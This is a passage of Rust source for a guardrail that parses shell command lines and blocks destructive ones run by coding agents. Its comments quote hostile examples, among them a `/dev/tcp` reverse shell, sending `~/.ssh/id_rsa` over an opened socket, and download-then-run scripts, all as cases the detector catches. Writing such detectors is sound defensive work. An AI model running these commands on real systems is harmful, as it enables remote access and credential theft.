//! Destructive-operation analysis of shell command lines, with a real bash parser
//! (`brush-parser`), never regexes over the raw string: `parse → what runs → rules`.
//!
//! [`analyze`] parses the command line, walks every construct to the commands that run
//! ([`walk`]), peels wrappers off each (`sudo`, `env`, `nice`, `timeout`, `xargs`,
//! `find -exec`, `sh -c`, `eval`, here-documents fed to a shell, ...), and asks the rule
//! of each program ([`rules`]). What cannot be read with certainty (a parse error, a
//! command word only known at run time, `eval` of a run-time string) fails closed: it is
//! a finding that blocks. Data is not code: text that only reaches `echo`, `cat <<EOF` or
//! a file is not analysed as commands.
//!
//! Modules: `walk` walks every construct (lists, pipelines, subshells, loops, functions,
//! redirections, here-documents, command and process substitutions) to the commands that
//! run, as typed argv (a literal after quote removal, or unknown at run time), the files
//! they write and their stdin, following what the line sets (`scope`; `builtins` reads the
//! names `read`, `printf -v`, `wait -p`, `mapfile` assign and `mapfile -C`'s callback);
//! `analyze` peels the wrappers and fails closed (`runners` is the table of runners and
//! wrappers: where the command each runs starts, its options that take a value or code);
//! `rules` holds
//! the rules that take code (git, rm and find, SQL clients, credential writers); `sql`
//! reads the SQL a client runs with `sqlparser`, in its dialect; `patterns` evaluates the
//! registry of argv patterns (built-in ones in `patterns_builtin.json`, stored rows merged
//! over them by the service), and `verbs` judges a program it does not know by its
//! subcommand words (`hcloud server delete`); `inline` reads code for other interpreters (`python -c`,
//! `node -e`) lexically; `labelled` loads and scores the labelled corpus
//! `corpus/commands.jsonl`, used by the corpus test and `coord bench guardrails`; the
//! corpus test adds metamorphic tests (wrappers never hide a destructive command; quoted
//! data is never code).

pub mod entry;
pub mod hit;
pub mod inline;
pub mod labelled;
pub mod patterns;
pub mod rules;
pub mod scope;
pub mod sed;
pub mod sql;
pub mod verbs;
pub mod walk;

mod builtins;

mod resolve;
mod runners;

use coord_domain::guardrails::{Action, Category, Finding, MAX_COMMAND_BYTES, WorkChanges, diff_additions};
use patterns::Patterns;
use rules::{Hit, RUNTIME_OPERAND, program};
use walk::{Arg, Exec, Stdin, Walk};

/// How deeply brackets may nest before the input is refused unread: the parser recurses
/// per level, and no command an agent writes nests this deep.
pub const MAX_NESTING: usize = 64;

/// How many pieces of code (the line, nested code, entry points) and commands one
/// analysis follows before it refuses instead.
const MAX_WORK: usize = 512;
const MAX_EXECS: usize = 4096;

/// Everything destructive in a command line (warnings included), in the order found,
/// with the built-in patterns. Never panics: a failure of the parser or of a rule is
/// itself a blocking finding.
pub fn analyze(command: &str) -> Vec<Finding> {
    analyze_with(command, patterns::builtin())
}

/// What the analysis knows of where the command runs, beyond the command line.
#[derive(Debug, Clone, Copy, Default)]
pub struct Facts<'a> {
    /// The repository's git aliases (`git config --get-regexp '^alias\.'`, names without
    /// `alias.`), read by the door that runs in the repository (hooks, `coord guard
    /// check`): `git NAME` is judged by what the alias runs. `None`: not known, and a
    /// git subcommand that git does not have is refused (it may be an alias).
    pub git_aliases: Option<&'a std::collections::BTreeMap<String, String>>,
    /// The repository's files an entry point of the command needs (`package.json`, the
    /// Makefile, a script run by path; see [`entry_files_wanted`]), by path relative to
    /// where the command runs, read by the door that runs there. `None`: nothing read,
    /// and entry points are judged by their names.
    pub files: Option<&'a entry::Files>,
}

/// [`analyze`] with a registry of argv patterns of one's own.
pub fn analyze_with(command: &str, patterns: &Patterns) -> Vec<Finding> {
    analyze_in(command, patterns, Facts::default())
}

/// [`analyze_with`], knowing `facts` of where the command runs.
pub fn analyze_in(command: &str, patterns: &Patterns, facts: Facts<'_>) -> Vec<Finding> {
    let blocked = |operation: &str, reason: String| {
        vec![Finding {
            category: Category::Unverifiable,
            operation: operation.into(),
            action: Action::Block,
            matched: command.chars().take(80).collect(),
            span: None,
            reason,
        }]
    };
    if nesting(command) > MAX_NESTING {
        return blocked(
            "too_deep",
            format!("brackets nest more than {MAX_NESTING} levels deep; this is not analysed"),
        );
    }
    std::panic::catch_unwind(|| analyze_checked(command, patterns, facts))
        .unwrap_or_else(|_| blocked("analysis_failed", "the command could not be analysed".into()))
}

/// The inputs of `parallel … ::: a b c`, when they are a few plain words (one `:::`
/// list, no file lists).
fn parallel_inputs(args: &[Arg]) -> Option<Vec<String>> {
    let at = args.iter().position(|a| a.raw() == ":::")?;
    let inputs = &args[at + 1..];
    let plain = |a: &Arg| {
        a.lit()
            .filter(|s| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || "._-/".contains(c)))
            .map(str::to_string)
    };
    if inputs.is_empty() || inputs.len() > 16 || args.iter().any(|a| matches!(a.raw(), "::::" | ":::+" | "::::+")) {
        return None;
    }
    inputs.iter().map(plain).collect()
}

/// The script an interpreter runs (`node -r esm scripts/x.js`, `python3 tools/x.py`,
/// `bun run x.ts`): the first operand that is a file path, after the options and their
/// values. `-m`, `-c` and `-e` run no script file.
fn script_operand(args: &[Arg]) -> Option<usize> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let raw = a.raw();
        match raw {
            "-m" | "-c" | "-e" | "--eval" | "-p" | "--print" => return None,
            "-r" | "--require" | "--import" | "--loader" | "-W" | "-X" | "--env-file" => i += 2,
            "run" | "exec" if i == 0 => i += 1,
            _ if raw.starts_with('-') => i += 1,
            _ => {
                return (raw.contains('/') || raw.contains('.')).then_some(i);
            }
        }
    }
    None
}

/// `env -S STRING`, `-SSTRING` or `--split-string=STRING` at `i`: the string and where
/// env's arguments go on.
fn split_string(args: &[Arg], i: usize) -> Option<(Arg, usize)> {
    let raw = args[i].raw();
    let attached = |text: &str| match &args[i] {
        Arg::Lit(_) => Arg::Lit(text.to_string()),
        Arg::Unknown(_) => Arg::Unknown(text.to_string()),
    };
    if raw == "--split-string" {
        return Some((args.get(i + 1)?.clone(), i + 2));
    }
    if let Some(rest) = raw.strip_prefix("--split-string=") {
        return Some((attached(rest), i + 1));
    }
    // `-S…`, and after flags that take no value in one bundle: `-iS 'cmd'`, `-vS/bin/sh`.
    let bundle = raw.strip_prefix('-').filter(|b| !b.starts_with('-'))?;
    let (flags, rest) = bundle.split_once('S')?;
    if !flags.chars().all(|c| matches!(c, 'i' | '0' | 'v')) {
        return None;
    }
    if rest.is_empty() {
        return Some((args.get(i + 1)?.clone(), i + 2));
    }
    Some((attached(rest), i + 1))
}

/// The arguments after a leading `--` (`eval -- CODE`, `trap -- CODE SIG`).
fn without_dashes(args: &[Arg]) -> &[Arg] {
    match args.first() {
        Some(a) if a.raw() == "--" => &args[1..],
        _ => args,
    }
}

/// Whether `e` may change a file of the repository before a later command reads it: an
/// in-place edit, a copy or move, `npm pkg set`, git writing the work tree.
fn edits_files(e: &Exec) -> bool {
    let Some(word) = e.argv.first().and_then(Arg::lit) else {
        return !e.argv.is_empty();
    };
    let prog = program(word);
    let args = &e.argv[1..];
    let sub = args.iter().find(|a| !a.raw().starts_with('-')).map(Arg::raw);
    !rules::written_files(prog, args).is_empty()
        || matches!((prog, sub), ("npm" | "pnpm" | "yarn", Some("pkg" | "set-script")))
        || matches!(
            (prog, sub),
            (
                "git",
                Some(
                    "checkout"
                        | "restore"
                        | "apply"
                        | "am"
                        | "stash"
                        | "reset"
                        | "pull"
                        | "merge"
                        | "rebase"
                        | "cherry-pick"
                        | "switch"
                )
            )
        )
        || matches!(prog, "patch" | "unzip" | "tar" | "rsync")
}

/// The replacement string of `xargs -I R`, `-iR`, `-i` or `--replace[=R]`.
fn xargs_replace(args: &[Arg]) -> Option<String> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        let raw = a.raw();
        match raw {
            "-I" => return args.get(i + 1).map(|r| r.raw().to_string()),
            "-i" | "--replace" => return Some("{}".into()),
            _ if raw.starts_with("--replace=") => return Some(raw["--replace=".len()..].to_string()),
            _ if raw.starts_with("-I") || (raw.starts_with("-i") && !raw.starts_with("--")) => {
                return Some(raw[2..].to_string());
            }
            _ if raw.starts_with('-') => i += 1,
            _ => return None,
        }
    }
    None
}

/// The deepest nesting of `(`, `{` and `[` in `text` (quotes ignored: an upper bound).
fn nesting(text: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for c in text.chars() {
        match c {
            '(' | '{' | '[' => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

fn analyze_checked(command: &str, patterns: &Patterns, facts: Facts<'_>) -> Vec<Finding> {
    if command.len() > MAX_COMMAND_BYTES {
        return vec![Finding {
            category: Category::Unverifiable,
            operation: "too_long".into(),
            action: Action::Block,
            matched: command.chars().take(80).collect(),
            span: None,
            reason: format!("a command line longer than {MAX_COMMAND_BYTES} bytes is not analysed"),
        }];
    }
    let mut a = Analyzer::new(patterns, facts);
    a.script(command, 0);
    a.findings
}

/// The repository files the entry points of `command` need that `facts.files` does not
/// hold yet (`package.json`, a Makefile, a script run by path, and those their code runs
/// in turn). A door that runs in the repository reads them (beneath its directory, to a
/// size limit), adds them to the files and asks again, until nothing new is wanted.
pub fn entry_files_wanted(command: &str, files: &entry::Files) -> Vec<String> {
    if command.len() > MAX_COMMAND_BYTES || nesting(command) > MAX_NESTING {
        return Vec::new();
    }
    // Which files are wanted does not depend on the pattern registry: none is compiled.
    static NONE: std::sync::OnceLock<Option<Patterns>> = std::sync::OnceLock::new();
    let Some(patterns) = NONE.get_or_init(|| Patterns::new(Vec::new()).ok()) else {
        return Vec::new();
    };
    let facts = Facts {
        git_aliases: None,
        files: Some(files),
    };
    std::panic::catch_unwind(|| {
        let mut a = Analyzer::new(patterns, facts);
        a.script(command, 0);
        a.wanted
    })
    .unwrap_or_default()
}

/// The files a command line writes or removes, as far as the command says (literal
/// paths only: a target known only at run time is not among them): redirections, `tee`,
/// `cp`/`mv`/`install`/`ln` destinations (and `mv`'s sources), in-place edits (`sed -i`),
/// `touch`, `truncate`, `dd of=`, `rm`/`unlink`/`shred` operands — behind the plain
/// wrappers (`sudo`, `env`, `nice`, `nohup`, `time`, `command`, `exec`). The hooks hold
/// them against other agents' locks, as an edit tool's file. Never panics.
pub fn files_written(command: &str) -> Vec<String> {
    if command.len() > MAX_COMMAND_BYTES || nesting(command) > MAX_NESTING {
        return Vec::new();
    }
    std::panic::catch_unwind(|| {
        let w = Walk::line(command, 0);
        let mut out: Vec<String> = Vec::new();
        for e in &w.execs {
            out.extend(e.writes.iter().filter_map(Arg::lit).map(String::from));
            let mut argv: &[Arg] = &e.argv;
            while let Some(first) = argv.first().map(Arg::raw) {
                if let Some(rest) = runners::command(program(first), &argv[1..]) {
                    argv = rest;
                    continue;
                }
                let wrapper = matches!(
                    program(first),
                    "sudo" | "doas" | "env" | "nice" | "nohup" | "time" | "command" | "exec" | "builtin"
                );
                if is_assignment(first) || wrapper || (first.starts_with('-') && argv.len() > 1) {
                    argv = &argv[1..];
                } else {
                    break;
                }
            }
            let Some(prog) = argv.first().and_then(Arg::lit).map(program) else {
                continue;
            };
            let args = &argv[1..];
            let mut paths = rules::written_files(prog, args);
            if matches!(prog, "rm" | "unlink" | "shred" | "mv") {
                paths.extend(args.iter().filter(|a| !a.raw().starts_with('-')).cloned());
            }
            out.extend(paths.iter().filter_map(Arg::lit).map(String::from));
        }
        out.retain(|p| !p.is_empty() && p != "-");
        out.sort();
        out.dedup();
        out
    })
    .unwrap_or_default()
}

/// The files an `apply_patch` patch (Codex's format: `*** Add File: P`, `*** Update
/// File: P`, `*** Delete File: P`, `*** Move to: P`) changes.
pub fn patch_files(patch: &str) -> Vec<String> {
    let mut out: Vec<String> = patch
        .lines()
        .filter_map(|l| {
            let l = l.trim_end();
            [
                "*** Add File: ",
                "*** Update File: ",
                "*** Delete File: ",
                "*** Move to: ",
            ]
            .iter()
            .find_map(|p| l.strip_prefix(p))
        })
        .map(|p| p.trim().to_string())
        .filter(|p| !p.is_empty())
        .collect();
    out.sort();
    out.dedup();
    out
}

/// Findings for files an edit changes: credential files need a person's review.
pub fn analyze_files(files: &[String]) -> Vec<Finding> {
    files
        .iter()
        .filter_map(|f| {
            if rules::coord_state(f) {
                Some(finding(rules::coord_state_edit(), f))
            } else if rules::credential_path(f) {
                Some(finding(rules::credential_hit(f, "edit changes"), f))
            } else {
                None
            }
        })
        .collect()
}

/// Findings for the code changes a task reports at completion: its commands, its files
/// (credential files), and the lines its diff adds to shell scripts and SQL files. Script
/// lines are fragments: what is only uncertain in them (a variable as a command, a line
/// that does not parse alone) is not held against the change — the destructive commands
/// they clearly contain are.
pub fn analyze_changes(c: &WorkChanges) -> Vec<Finding> {
    analyze_changes_with(c, patterns::builtin())
}

/// [`analyze_changes`] with a registry of argv patterns of one's own.
pub fn analyze_changes_with(c: &WorkChanges, patterns: &Patterns) -> Vec<Finding> {
    let analyze = |cmd: &str| analyze_with(cmd, patterns);
    let mut out: Vec<Finding> = c.commands.iter().flat_map(|cmd| analyze(cmd)).collect();
    let mut files = c.files.clone();
    for (path, added) in c.diff.as_deref().map(diff_additions).unwrap_or_default() {
        let lower = path.to_ascii_lowercase();
        if [".sh", ".bash", ".zsh"].iter().any(|e| lower.ends_with(e)) {
            let whole = analyze(&added);
            let findings = if whole.iter().any(|f| f.category == Category::Unverifiable) {
                added.lines().flat_map(analyze).collect()
            } else {
                whole
            };
            out.extend(findings.into_iter().filter(|f| f.category != Category::Unverifiable));
        } else if lower.ends_with(".sql") {
            let hits = std::panic::catch_unwind(|| sql::analyze(&added, "", true))
                .unwrap_or_else(|_| vec![unverifiable("analysis_failed", "the SQL could not be analysed")]);
            out.extend(hits.into_iter().map(|h| finding(h, &path)));
        }
        files.push(path);
    }
    out.extend(analyze_files(&files));
    out.dedup();
    out
}

fn finding(hit: Hit, matched: &str) -> Finding {
    Finding {
        category: hit.category,
        operation: hit.operation,
        action: hit.action,
        matched: matched.chars().take(300).collect(),
        span: None,
        reason: hit.reason,
    }
}

fn unverifiable(operation: &str, reason: impl Into<String>) -> Hit {
    Hit {
        category: Category::Unverifiable,
        operation: operation.into(),
        action: Action::Block,
        reason: reason.into(),
    }
}

/// Programs whose first operand is a script file they run.
const SCRIPT_RUNNERS: &[&str] = &[
    "node", "nodejs", "tsx", "ts-node", "bun", "deno", "python", "python2", "python3", "pypy", "pypy3", "ruby", "perl",
    "php", "Rscript", "lua", "groovy",
];

/// `cargo +nightly build`, `cargo "+${MSRV}" test`: rustup's toolchain word first, then
/// the program's own arguments (an unquoted expansion may split: not passed over).
fn toolchain_first(args: &[Arg]) -> bool {
    args.first().is_some_and(|a| match a {
        Arg::Lit(t) => t.starts_with('+'),
        Arg::Unknown(raw) => raw.starts_with("\"+"),
    })
}

/// A file the line writes before it may run it ([`Analyzer::written_here`]).
#[derive(Clone)]
enum Written {
    /// Its content, as the line gives it (`cat > x.sh <<'EOF'`).
    Code(String),
    /// Written in a way that does not say what it holds (twice, appended to, by a program).
    Unknown,
    /// A download's (`curl -o install.sh URL`): what the server sends.
    Downloaded,
}

/// The key of a written file: its path without a leading `./`.
fn written_key(path: &str) -> &str {
    path.trim_start_matches("./")
}

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "busybox-sh"];

struct Analyzer<'p> {
    findings: Vec<Finding>,
    patterns: &'p Patterns,
    facts: Facts<'p>,
    /// The directory the command being judged runs in, when the line changed to one.
    cwd: Option<String>,
    /// The entry points being analysed (loops are refused), the directory of the
    /// innermost (relative to where the command runs) and the files they wanted that
    /// were not sent.
    entry_stack: Vec<String>,
    entry_dir: String,
    wanted: Vec<String>,
    /// Files the line writes (redirections), with their content when the line says it
    /// (`cat > x.sh <<'EOF'`): a script written and then run is judged by that content,
    /// or refused.
    written: std::collections::BTreeMap<String, Written>,
    /// The line may change a repository file before an entry point runs (an in-place
    /// edit, `npm pkg set`, `git checkout`): entry points are judged by their names.
    line_edits: bool,
    /// The line opened a network connection (`exec 5<>/dev/tcp/…`): a shell reading
    /// commands from its input later on may be reading them from it.
    connected: bool,
    /// A credential file the line read (`k=$(cat ~/.ssh/id_rsa)`): a connection it opens
    /// afterwards may carry it (variables and descriptors are not followed).
    credential_read: Option<String>,
    /// The variables the command being judged sets for itself (its assignments, `env
    /// NAME=value`): git reads settings from them.
    env: Vec<(String, Option<String>)>,
    /// The command's words that hold a known value or nothing ([`Exec::or_empty`]).
    or_empty: Vec<(String, String)>,
    /// Pieces of code analysed so far ([`MAX_WORK`]).
    work: usize,
}

impl<'p> Analyzer<'p> {
    fn new(patterns: &'p Patterns, facts: Facts<'p>) -> Self {
        Analyzer {
            findings: Vec::new(),
            patterns,
            facts,
            cwd: None,
            entry_stack: Vec::new(),
            entry_dir: String::new(),
            wanted: Vec::new(),
            written: Default::default(),
            line_edits: false,
            connected: false,
            credential_read: None,
            env: Vec::new(),
            or_empty: Vec::new(),
            work: 0,
        }
    }

    fn script(&mut self, text: &str, depth: usize) {
        // A bound on the whole analysis (loops over values, entry points running each
        // other, make variables): past it the command is refused, not analysed forever.
        self.work += 1;
        if self.work > MAX_WORK {
            return self.add(
                [unverifiable(
                    "too_complex",
                    "the command runs more code than the analysis follows; run its parts one by one",
                )],
                text,
            );
        }
        let w = Walk::line(text, depth);
        if w.execs.len() > MAX_EXECS {
            return self.add(
                [unverifiable(
                    "too_complex",
                    "the command runs more commands than the analysis follows; run its parts one by one",
                )],
                text,
            );
        }
        for matched in &w.fork_bombs() {
            self.add(
                [rules::fork_bomb_hit("a function that starts itself alongside itself")],
                matched,
            );
        }
        for p in w.problems {
            self.findings
                .push(finding(unverifiable("unparseable", p.reason), &p.matched));
        }
        for e in &w.execs {
            self.note_written(e);
            self.line_edits |= edits_files(e);
        }
        for e in &w.execs {
            self.exec(e, depth);
        }
    }

    /// What `e` writes into files, with the content when the command says it.
    fn note_written(&mut self, e: &Exec) {
        let content = match (e.argv.first().and_then(Arg::lit).map(program), &e.stdin) {
            (Some("cat"), Stdin::Text(t)) if e.argv.len() == 1 => Some(t.clone()),
            (Some("echo"), _) => {
                let words: Option<Vec<&str>> = e.argv[1..].iter().map(Arg::lit).collect();
                words
                    .filter(|w| w.first().is_none_or(|f| !f.starts_with('-')))
                    .map(|w| w.join(" "))
            }
            _ => None,
        };
        // A download's file holds what the server sends: run later on the line, it is
        // code only known at run time (`curl -o install.sh URL && bash install.sh`).
        let downloads = match e.argv.split_first() {
            Some((first, args)) => first
                .lit()
                .map(|p| rules::downloaded_files(program(p), args))
                .unwrap_or_default(),
            None => Vec::new(),
        };
        for f in downloads.iter().filter_map(Arg::lit) {
            self.written.insert(written_key(f).to_string(), Written::Downloaded);
        }
        for f in e.writes.iter().filter_map(Arg::lit) {
            // Written twice (or appended to): its content is not one command's.
            let written = match (self.written.get(written_key(f)), &content) {
                (Some(Written::Downloaded), _) => Written::Downloaded,
                (None, Some(code)) => Written::Code(code.clone()),
                _ => Written::Unknown,
            };
            self.written.insert(written_key(f).to_string(), written);
        }
    }

    /// A script this same line wrote, run by path: judged by the content the line gave
    /// it, or refused (only run time knows it). False: not written here.
    fn written_here(&mut self, path: &str, text: &str, depth: usize) -> bool {
        let (how, first) = match self.written.get(written_key(path)).cloned() {
            None => return false,
            Some(Written::Code(code)) => {
                self.script(&code, depth + 1);
                return true;
            }
            Some(Written::Unknown) => ("written", "write it first, then run it"),
            Some(Written::Downloaded) => ("downloaded", "download it first, read it, then run it"),
        };
        let reason = format!(
            "{path} is {how} by this same command line and then run: what it runs is only known at run time; \
             {first} so it can be judged"
        );
        self.add([unverifiable("written_code", reason)], text);
        true
    }

    /// `git …`: what its configuration writes run (`git config alias.x …`,
    /// `git config core.fsmonitor …`), an alias expanded to what it runs, else git's rule.
    fn git(&mut self, args: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let (i, given) = rules::git_subcommand(args);
        if args.get(i).map(Arg::raw) == Some("config")
            && let Some((key, Some(value))) = rules::git_config_write(&args[i + 1..])
        {
            match value {
                Arg::Lit(v) => match rules::git_config_command(&format!("{key}={v}")) {
                    Some(code) => self.script(code, depth + 1),
                    None if key.starts_with("alias.") => self.git_alias(&args[..i], v, &[], stdin, text, depth),
                    None => {}
                },
                Arg::Unknown(raw)
                    if key.starts_with("alias.") || rules::git_config_command(&format!("{key}=x")).is_some() =>
                {
                    self.add(
                        [unverifiable(
                            "dynamic_git_command",
                            format!("the value of git's {key} (`{raw}`) is only known at run time"),
                        )],
                        text,
                    )
                }
                Arg::Unknown(_) => {}
            }
        }
        match args.get(i) {
            Some(Arg::Lit(sub)) if !rules::GIT_COMMANDS.contains(&sub.as_str()) => {
                match rules::git_alias(sub, &given, self.facts.git_aliases) {
                    rules::GitAlias::Expands(value) => {
                        self.git_alias(&args[..i], &value, &args[i + 1..], stdin, text, depth)
                    }
                    rules::GitAlias::External => {}
                    rules::GitAlias::Unknown => self.add(
                        [unverifiable(
                            "git_alias",
                            format!(
                                "git {sub} is not a git command: it may be an alias, whose meaning only the \
                                 repository's configuration knows; write the git command it stands for, or run it \
                                 where coord's hook or `coord guard check` can read the repository's aliases"
                            ),
                        )],
                        text,
                    ),
                }
            }
            _ => self.add(rules::git(args), text),
        }
    }

    /// The alias `value` run with `rest` after it, as `git GLOBALS value… rest…` (a `!`
    /// alias is a shell command). Aliases of aliases are followed to a bound.
    fn git_alias(&mut self, globals: &[Arg], value: &str, rest: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        if depth > walk::MAX_DEPTH {
            return self.add(
                [unverifiable(
                    "git_alias",
                    "git aliases expand into each other too deeply (a loop?)",
                )],
                text,
            );
        }
        if let Some(code) = value.strip_prefix('!') {
            return self.script(code, depth + 1);
        }
        let mut argv = vec![Arg::Lit("git".into())];
        argv.extend(globals.iter().cloned());
        argv.extend(rules::alias_words(value).into_iter().map(Arg::Lit));
        argv.extend(rest.iter().cloned());
        self.argv(&argv, stdin, text, depth + 1)
    }

    fn add(&mut self, hits: impl IntoIterator<Item = Hit>, matched: &str) {
        for h in hits {
            let f = finding(h, matched);
            if !self.findings.contains(&f) {
                self.findings.push(f);
            }
        }
    }

    fn exec(&mut self, e: &Exec, depth: usize) {
        // Code nested in this command (`bash -c`) starts where this command runs; after a
        // `cd` that is not followed, somewhere unknown (relative paths as written).
        let outer = self.cwd.clone();
        if e.cwd.is_some() || e.cwd_lost {
            self.cwd = e.cwd.clone();
        }
        self.writes(&e.writes, &e.text);
        self.reverse_shell(e);
        self.env.clone_from(&e.env);
        self.or_empty.clone_from(&e.or_empty);
        // An exit handler's commands are among the walk's, judged where it runs.
        if !e.exit_handler {
            self.argv(&e.argv, &e.stdin, &e.text, depth);
        }
        self.cwd = outer;
    }

    /// A shell or an interpreter whose input or output is a network connection
    /// (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): a reverse shell. Any other program's
    /// redirection to one only sends or receives data.
    fn reverse_shell(&mut self, e: &Exec) {
        let stdin = match &e.stdin {
            Stdin::File(f) => Some(f),
            _ => None,
        };
        // Its own redirections, or those of a group or loop around it (`{ sh -i; }
        // </dev/tcp/…`), with an address known or not (`/dev/tcp/$H/4444`).
        let connected = e
            .writes
            .iter()
            .chain(stdin)
            .chain(&e.enclosing)
            .find_map(rules::connection);
        let secret = e
            .argv
            .get(1..)
            .unwrap_or_default()
            .iter()
            .chain(stdin)
            .filter_map(Arg::lit)
            .find(|a| rules::credential_path(a));
        // Data sent is not a finding, but a credential file sent is, also once the line
        // opened a connection (`exec 3<>/dev/tcp/…; cat ~/.ssh/id_rsa >&3`): descriptors
        // are not followed.
        if (connected.is_some() || self.connected)
            && let Some(secret) = secret
        {
            self.add([rules::credential_sent_hit(secret)], &e.text);
        }
        if self.credential_read.is_none() {
            self.credential_read = secret.map(str::to_string);
        }
        if connected.is_some()
            && let Some(secret) = self.credential_read.clone()
        {
            // Read before, into a variable or a file: it may leave through the connection
            // (a socket carries both ways, whatever the redirection's direction).
            self.add([rules::credential_sent_hit(&secret)], &e.text);
        }
        // Only `exec` without a command keeps the connection open for the rest of the
        // line (`exec 3<>/dev/tcp/…`); any other command's redirection ends with it (the
        // wait-for-a-port idiom `until </dev/tcp/db/5432; do sleep 1; done`).
        self.connected |= connected.is_some() && keeps_descriptors(&e.argv);
        // The program the command runs, past its wrappers (`env sh`, `exec bash`).
        let shell = command_program(&e.argv).is_some_and(|p| SHELLS.contains(&p) || inline::interpreter(p).is_some());
        // A shell with its input or output on the connection, or any shell after the line
        // opened one (`exec 3<>/dev/tcp/…; sh <&3 >&3`): descriptors are not followed.
        if shell && (connected.is_some() || self.connected) {
            let device = connected.unwrap_or("a connection the line opened");
            self.add(
                [rules::reverse_shell_hit(&format!("a shell connected to {device}"))],
                &e.text,
            );
        }
    }

    /// `paths` as the command reaches them, from the directory it runs in.
    fn reach(&self, paths: &[Arg]) -> Vec<Arg> {
        let scope = scope::Scope::at(self.cwd.clone());
        paths
            .iter()
            .map(|a| match a {
                Arg::Lit(p) => Arg::Lit(scope.reach(p)),
                other => other.clone(),
            })
            .collect()
    }

    fn writes(&mut self, files: &[Arg], text: &str) {
        let files: Vec<Arg> = self
            .reach(files)
            .into_iter()
            .map(|f| match &f {
                Arg::Unknown(raw) => rules::user_home(raw)
                    .or_else(|| rules::credential_name(raw))
                    .map_or(f, Arg::Lit),
                Arg::Lit(_) => f,
            })
            .collect();
        let hits: Vec<Hit> = files
            .iter()
            .filter_map(Arg::lit)
            .filter_map(|f| {
                if rules::coord_state(f) {
                    rules::coord_state_write("rm", &[Arg::Lit(f.to_string())])
                } else if rules::device_path(f) {
                    Some(rules::device_hit(f))
                } else if rules::credential_path(f) {
                    Some(rules::credential_hit(f, "command writes"))
                } else {
                    rules::machine_write(f)
                }
            })
            .collect();
        self.add(hits, text);
    }

    /// What runs before the program's own rule: a glob as the command word, a script this
    /// line wrote, an entry point read from the repository, a runner's command, a script
    /// judged by its name. True when the command was judged here entirely.
    fn resolved(&mut self, word: &str, argv: &[Arg], stdin: &Stdin, text: &str, depth: usize) -> bool {
        let prog = program(word);
        let args = &argv[1..];
        // `./scripts/depl?y.sh`: the shell picks the file by the glob at run time.
        if word.contains(['*', '?']) || (word.len() > 1 && word.contains('[') && word.contains(']')) {
            self.add(
                [unverifiable(
                    "dynamic_command",
                    format!(
                        "the command `{word}` is a pattern the shell expands at run time; write the command itself"
                    ),
                )],
                text,
            );
            return true;
        }
        // `!!`, `!42`, `!terraform`, `^old^new`, `fc`: a command from the shell's history.
        if history(word, args) {
            self.add(
                [unverifiable(
                    "dynamic_command",
                    format!("`{word}` runs a command from the shell's history, only known at run time; write the command itself"),
                )],
                text,
            );
            return true;
        }
        if (word.contains('/') && self.written_here(word, text, depth)) || self.entry_point(argv, text, depth) {
            return true;
        }
        match runners::runs(prog, args) {
            Some(runners::Runs::Code(code)) => {
                self.code_arg(code.as_ref(), text, depth);
                return true;
            }
            Some(runners::Runs::Commands(starts)) => {
                for rest in starts {
                    self.argv(rest, stdin, text, depth);
                }
                return true;
            }
            None => {}
        }
        // `node scripts/deploy.js`, `tsx tools/update-homebrew.ts`: the script by its name.
        if SCRIPT_RUNNERS.contains(&prog)
            && let Some(i) = script_operand(args)
        {
            self.add(rules::shipping_script(args[i].raw(), &args[i + 1..]), text);
        }
        let script_name = word.contains('/')
            || [".sh", ".bash", ".py", ".js", ".mjs", ".ts", ".rb", ".pl"]
                .iter()
                .any(|e| word.ends_with(e));
        if script_name && !SHELLS.contains(&prog) && inline::interpreter(prog).is_none() {
            // A program run by its path whose code was not read: by its name, too.
            self.add(rules::shipping_script(word, args), text);
        }
        if let Some(i) = resolve::direct_binary(prog, args) {
            // `pnpm wrangler deploy`: a script of that name (judged by name) or a binary
            // of a dependency: both.
            self.program(prog, args, stdin, text);
            self.argv(&args[i..], stdin, text, depth);
            return true;
        }
        false
    }

    /// One command: wrappers are peeled off (their command analysed instead), then the
    /// program's rule runs.
    fn argv(&mut self, argv: &[Arg], stdin: &Stdin, text: &str, depth: usize) {
        let Some(first) = argv.first() else { return };
        let Some(word) = first.lit() else {
            return self.add(
                [unverifiable(
                    "dynamic_command",
                    format!(
                        "the command `{}` is only known at run time; write the command itself",
                        first.raw()
                    ),
                )],
                text,
            );
        };
        let prog = program(word);
        let args = &argv[1..];
        if self.resolved(word, argv, stdin, text, depth) {
            return;
        }
        match prog {
            // Wrappers that run the rest of their arguments as a command.
            "sudo" | "doas" | "run0" => self.sudo(args, stdin, text, depth),
            "nohup" | "setsid" | "unbuffer" | "builtin" | "noglob" | "busybox" | "caffeinate" => {
                self.wrapped(args, &[], stdin, text, depth)
            }
            "time" => self.wrapped(args, &["-o", "--output", "-f", "--format"], stdin, text, depth),
            "exec" => self.wrapped(args, &["-a"], stdin, text, depth),
            "nice" => self.wrapped(args, &["-n", "--adjustment"], stdin, text, depth),
            "ionice" => self.wrapped(args, &["-c", "-n", "-p", "-P", "-u"], stdin, text, depth),
            "stdbuf" => self.wrapped(args, &["-i", "-o", "-e"], stdin, text, depth),
            "systemd-run" => self.wrapped(
                args,
                &["-p", "-u", "-E", "--unit", "--property", "--setenv", "-M", "--machine"],
                stdin,
                text,
                depth,
            ),
            "chroot" => self.after_operands(args, 1, stdin, text, depth),
            "cargo" | "rustc" | "rustdoc" if toolchain_first(args) => {
                let rest: Vec<Arg> = std::iter::once(first.clone())
                    .chain(args[1..].iter().cloned())
                    .collect();
                self.argv(&rest, stdin, text, depth)
            }
            "timeout" => {
                let rest = skip_options(args, &["-s", "--signal", "-k", "--kill-after"]);
                self.after_operands(rest, 1, stdin, text, depth)
            }
            "flock" => self.flock(args, stdin, text, depth),
            "command" => self.command_builtin(args, stdin, text, depth),
            "env" => self.env(args, stdin, text, depth),
            "xargs" | "parallel" => self.xargs(prog, args, stdin, text, depth),
            "watch" => {
                // (`-d`, `--differences[=permanent]`: its value only attached.)
                let rest = skip_options(args, &["-n", "--interval", "-q", "--equexit"]);
                self.joined_code(rest, text, depth)
            }
